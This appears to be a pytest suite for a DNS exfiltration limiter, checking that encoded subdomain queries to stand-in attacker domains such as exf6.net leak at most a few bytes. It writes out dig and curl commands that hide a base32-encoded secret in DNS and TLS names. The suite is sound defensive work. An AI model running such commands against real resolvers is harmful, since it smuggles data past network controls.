"""The DNS information budget, tried with `cofferdam replay-dns`: on captures and imitations of exfiltration tools, on traces made
here in other encodings and chunks, and on jobs of honest names. No network and no namespace is needed."""
from __future__ import annotations

import base64
import collections
import json
import lzma
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

REPOSITORY = Path(__file__).resolve().parents[2]
TRACES = sorted((REPOSITORY / "tests" / "dns" / "exfil").glob("*.tsv"))
TRAINING = REPOSITORY / "dns" / "tools" / "train_model.py"
NAMES = REPOSITORY / "tests" / "dns" / "benign.tsv.xz"
REAL_TOOLS = ("iodine", "dns2tcp")
FIELDS = ["qname", "qtype", "action", "reason", "tier", "key", "cost_bits", "spent_bits"]


def run(*arguments, stdin=None, code=0):
    binary = os.environ.get("COFFERDAM", str(REPOSITORY / "build" / "release" / "cofferdam"))
    done = subprocess.run([binary, "replay-dns", *map(str, arguments)], input=stdin, capture_output=True, text=True, timeout=300)
    assert done.returncode == code, done.stderr
    return done


def replay(*arguments, stdin=None):
    lines = [json.loads(line) for line in run(*arguments, stdin=stdin).stdout.splitlines()]
    return lines[:-1], lines[-1]


def trace_of(queries):
    return "".join(f"{i}.000\t{qtype}\t{qname}\t{payload}\n" for i, (qtype, qname, payload) in enumerate(queries))


@pytest.mark.parametrize("trace", TRACES, ids=lambda path: path.stem)
def test_a_tool_leaks_at_most_eight_bytes(trace):
    lines, sums = replay(trace)
    assert list(lines[0]) == FIELDS
    assert len(lines) == sums["queries"] == sum(sums[kind] for kind in ("allowed", "refused", "cached"))
    assert sums["leaked_bytes"] <= (0 if trace.stem.startswith(REAL_TOOLS) else 8)


def b32(raw):
    return base64.b32encode(raw).decode().rstrip("=").lower()


@pytest.mark.parametrize("suffix", ["x.exf6.net", "s3.amazonaws.com", "s3.eu-west-1.amazonaws.com", "blob.core.windows.net"])
@pytest.mark.parametrize("encode", [b32, bytes.hex, lambda raw: str(int.from_bytes(raw, "big"))], ids=["b32", "hex", "decimal"])
def test_chunks_of_any_size_leak_at_most_eight_bytes(encode, suffix):
    chance = random.Random(4711)
    for chunk in (1, 2, 3, 4, 5, 7, 10, 15, 20, 30):
        queries = [("A", f"{encode(chance.randbytes(chunk))}.{suffix}", chunk) for _ in range(64)]
        _, sums = replay("-", stdin=trace_of(queries))
        assert sums["leaked_bytes"] <= 8, f"{chunk} bytes a name"


def test_many_domains_of_an_attacker_share_the_budget_of_the_job():
    chance = random.Random(1)
    queries = [("A", f"{b32(chance.randbytes(5))}.exf{i}.net", 5) for i in range(60)]
    _, sums = replay("-", stdin=trace_of(queries))
    assert sums["leaked_bytes"] <= 15  # 224 bits of price, at least twelve a byte


def test_a_rule_raises_the_budget_and_a_listed_name_is_free(tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nallow:\n  - {entry: 'dns:*.wide.exf6.net', dns_bits: 4000}\n  - dns:*.narrow.exf6.net\n"
                      "  - dns:exact.exf6.net\n")
    chance = random.Random(2)
    names = [b32(chance.randbytes(5)) for _ in range(40)]
    passed = {}
    for zone in ("wide", "narrow"):
        lines, _ = replay("--policy", policy, "-", stdin=trace_of([("A", f"{name}.{zone}.exf6.net", 5) for name in names]))
        assert {line["tier"] for line in lines} == {"wildcard"}
        passed[zone] = sum(line["action"] == "allow" for line in lines)
    assert passed["narrow"] < passed["wide"] == 40
    lines, _ = replay("--policy", policy, "-", stdin=trace_of([("TXT", "exact.exf6.net", 0), ("A", "other.exf6.net", 0)]))
    assert [(line["action"], line["tier"]) for line in lines] == [("allow", "known"), ("refuse", "")]


def test_names_of_an_accepted_audit_log_are_free(tmp_path):
    name = "nbswy3dpeb3w64tmmqqho33snrsanbswy3dpeb3w64.exf6.net"
    record = {"type": "dns", "time": "2025-01-01T00:00:00.000000000Z", "job": "j", "seq": 1,
              "decision": {"action": "allow", "would": "deny", "reason": "not_in_allow_list", "stage": "name"},
              "dns": {"qname": name, "qtype": "A", "transport": "udp", "rcode": "NOERROR"}}
    (tmp_path / "accepted.jsonl").write_text(json.dumps(record) + "\n")
    base = "version: 1\nmode: audit\n"
    (tmp_path / "plain.yaml").write_text(base)
    (tmp_path / "learned.yaml").write_text(base + "dns: {exfiltration: {baseline: accepted.jsonl}}\n")
    query = trace_of([("A", name, 26)])
    assert replay("--policy", tmp_path / "plain.yaml", "-", stdin=query)[1]["refused"] == 1
    lines, sums = replay("--policy", tmp_path / "learned.yaml", "-", stdin=query)
    assert (lines[0]["tier"], sums["allowed"]) == ("known", 1)
    assert replay("--policy", tmp_path / "learned.yaml", "--audit", tmp_path / "accepted.jsonl")[1]["allowed"] == 1


def test_each_file_can_be_a_job():
    trace = next(path for path in TRACES if path.stem == "slow_hex_1B_min")
    once, twice = replay(trace, trace)[1], replay("--job-per-file", trace, trace)[1]
    assert (once["jobs"], twice["jobs"], twice["jobs_refused"]) == (1, 2, 2)
    assert twice["allowed"] > once["allowed"]


@pytest.mark.parametrize("bad, said", [("0.0\tA\n", "expected time, qtype, qname"), ("x\tA\ta.example\n", "the time"),
                                       ("0\tA\ta.example\t-1\n", "payload bytes"), ("0\tA\ta.example\t1\t2\n", "expected time")])
def test_a_bad_line_is_located(bad, said, tmp_path):
    trace = tmp_path / "trace.tsv"
    trace.write_text("0\tA\tgood.example\n" + bad)
    message = run(trace, code=78).stderr
    assert f"{trace}:2:1: " in message and said in message


def sampled_jobs(folder, seen, held_out, count):
    """Jobs of 200 names as CI jobs ask for them, half of them from names that the model was not trained on."""
    chance = random.Random(20)
    shares = {"ci-allowlist": 6, "aws-endpoint": 2, "opendns": 2}
    by_source = [collections.defaultdict(list) for _ in range(2)]
    for names, table in zip((seen, held_out), by_source):
        for name, source in names:
            table[source].append(name)
    for number in range(count):
        queries = []
        for i in range(200):
            source = chance.choices(list(shares), list(shares.values()))[0]
            name = chance.choice(by_source[i % 2][source])
            queries += [("A", name, 0), ("AAAA", name, 0)]
        path = folder / f"job{number}.tsv"
        path.write_text(trace_of(queries))
        yield path


def train(names, folder):
    listed = folder.with_suffix(".tsv")
    listed.write_text("".join(f"{name}\t{source}\n" for name, source in names))
    subprocess.run([sys.executable, TRAINING, listed, folder], check=True, timeout=300)


def test_at_most_two_in_a_hundred_honest_jobs_see_a_refusal(tmp_path):
    with lzma.open(NAMES, "rt") as lines:
        names = [tuple(line.rstrip("\n").split("\t")) for line in lines]
    random.Random(10).shuffle(names)
    half = len(names) // 2
    # What labels look like, and the hosts of CI, are learnt from one half. Which domains are popular is a list: all of it.
    train(names, tmp_path / "all")
    train(names[:half], tmp_path / "model")
    (tmp_path / "model" / "popular.bin").write_bytes((tmp_path / "all" / "popular.bin").read_bytes())
    jobs = list(sampled_jobs(tmp_path, names[:half], names[half:], 200))
    lines, sums = replay("--job-per-file", "--model", tmp_path / "model", *jobs)
    refused = collections.Counter(line["qname"] for line in lines if line["action"] == "refuse")
    assert sums["jobs"] == 200
    assert sums["jobs_refused"] <= 4, refused.most_common(10)


def test_training_is_deterministic_and_comes_near_the_shipped_model(tmp_path):
    with lzma.open(NAMES, "rt") as lines:
        names = [tuple(line.rstrip("\n").split("\t")) for line in lines]
    train(names, tmp_path / "once")
    train(list(reversed(names)), tmp_path / "again")
    files = ["order2.u8", "dict4096.tsv", "popular.bin", "ci_hosts.bin"]
    assert all((tmp_path / "once" / file).read_bytes() == (tmp_path / "again" / file).read_bytes() for file in files)
    shipped = REPOSITORY / "dns" / "model"
    ours, theirs = ((folder / "order2.u8").read_bytes() for folder in (tmp_path / "once", shipped))
    assert len(ours) == len(theirs) == 40 * 40 * 39
    assert sum(abs(a - b) for a, b in zip(ours, theirs)) / len(ours) < 8  # a bit a letter, over all contexts
    words = [{line.split("\t")[0] for line in (folder / "dict4096.tsv").read_text().splitlines()}
             for folder in (tmp_path / "once", shipped)]
    assert len(words[0] & words[1]) > 3000
    assert all(sum(2 ** (-cost / 8) for cost in ours[at:at + 39]) <= 1 for at in range(0, len(ours), 39))


def test_training_on_a_small_list(tmp_path):
    train([("a.b.staex.io", "x"), ("build3.ci.staex.io", "ci-allowlist"), ("evil.duckdns.org", "x")], tmp_path / "small")
    words = dict(line.split("\t") for line in (tmp_path / "small" / "dict4096.tsv").read_text().splitlines())
    assert set(words) == {"a", "b", "build3", "ci", "evil"}
    assert len((tmp_path / "small" / "ci_hosts.bin").read_bytes()) == 2 * 10  # the host and its pattern
    assert len((tmp_path / "small" / "popular.bin").read_bytes()) == 10  # nobody is popular below a delegating suffix
    lines, _ = replay("--model", tmp_path / "small", "-",
                      stdin=trace_of([("A", "build4.ci.staex.io", 0), ("A", "www.staex.io", 0), ("A", "www.exf6.net", 0)]))
    assert [line["tier"] for line in lines] == ["known", "popular", "unknown"]


DIG = "dig +tries=1 +time=5 "


def test_a_job_that_says_too_much_is_refused_and_told_why(world, gateway, nonce):
    """Mode audit lets every name be resolved, but not everything be said in names."""
    hidden = b32(nonce.encode() * 2)[:50]
    done = gateway.run(f"{DIG}{hidden}.t.exf6.net; {DIG}+tcp {hidden[:20]}.t.exf6.net TXT; {DIG}www.exf6.net; "
                       f"{DIG}+short echo.example", ["https://echo.example/"], policy={"mode": "audit"})
    assert done.out.count("status: REFUSED") == 3 and "exf6.net may say 128 bits" in done.out, done
    assert world.traces("exf6.net") == []
    refused = done.about("exf6.net", "dns")
    assert [r["decision"]["reason"] for r in refused] == ["exfiltration_budget"] * 3, done
    assert refused[0]["decision"]["rule"] == "dns.exfiltration.unknown_domain_bits"
    assert (refused[0]["dns"]["tier"], refused[0]["dns"]["key"]) == ("unknown", "exf6.net")
    assert refused[0]["dns"]["cost_bits"] > 128 and refused[0]["dns"].get("spent_bits", 0) == 0
    alerts = done.about("exf6.net", "alert")
    assert len(alerts) == 1 and alerts[0]["alert"]["name"] == "dns exfiltration budget", alerts
    assert "dns.exfiltration.unknown_domain_bits" in done.err, done


def test_a_wildcard_says_no_more_than_its_budget(world, gateway, nonce):
    """Each name is allowed by the policy; the names that leave are priced together."""
    loop = f"for i in $(seq 60); do {DIG}+noall +comments {nonce[:4]}$(printf %04x $((i * 7919)) | rev).wild.example; done"
    done = gateway.run(loop, [{"entry": "dns:*.wild.example", "dns_bits": 256}])
    passed = [r for r in done.about("wild.example", "dns") if r["decision"]["action"] == "allow"]
    assert 1 <= len(passed) < 20, done
    assert max(r["dns"]["spent_bits"] for r in passed) <= 256
    assert len(done.about("wild.example", "alert")) == 1


def test_a_name_in_a_url_alone_is_charged_too(world, gateway, nonce):
    """No query of the job: the name comes with TLS, to an address of an allowed one."""
    hidden = b32(nonce.encode() * 2)[:50]
    done = gateway.run(f"address=$(dig +short echo.example); curl -sk --resolve {hidden}.exf6.net:443:$address "
                       f"https://{hidden}.exf6.net/; true", ["https://echo.example/"], policy={"mode": "audit"})
    assert world.traces(hidden) == [], done
    assert any(r["decision"]["reason"] == "exfiltration_budget" for r in done.about(hidden)), done
